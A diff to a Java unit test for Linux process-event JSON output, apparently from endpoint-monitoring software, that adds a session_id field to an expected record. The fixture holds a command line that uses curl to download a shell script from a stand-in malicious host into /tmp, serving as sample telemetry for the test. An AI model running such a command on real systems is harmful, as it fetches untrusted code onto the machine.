@@ -54,7 +54,8 @@ public class LinuxJsonTest {
                 "process":{"entity_id":"lin-7.corp.example:8:2221","pid":2221,"start":"2026-03-02T10:00:05.701Z",\
                 "executable":"/usr/bin/curl","name":"curl","command_line":"curl -o \\"/tmp/my report.sh\\" \
                 https://files.bad.example/a","working_directory":"/home/ada",\
-                "parent":{"entity_id":"lin-7.corp.example:8:2176","pid":2176,"executable":"/usr/bin/bash"}}}""");
+                "parent":{"entity_id":"lin-7.corp.example:8:2176","pid":2176,"executable":"/usr/bin/bash"},\
+                "session_id":"8"}}""");
     }
 
     @Test
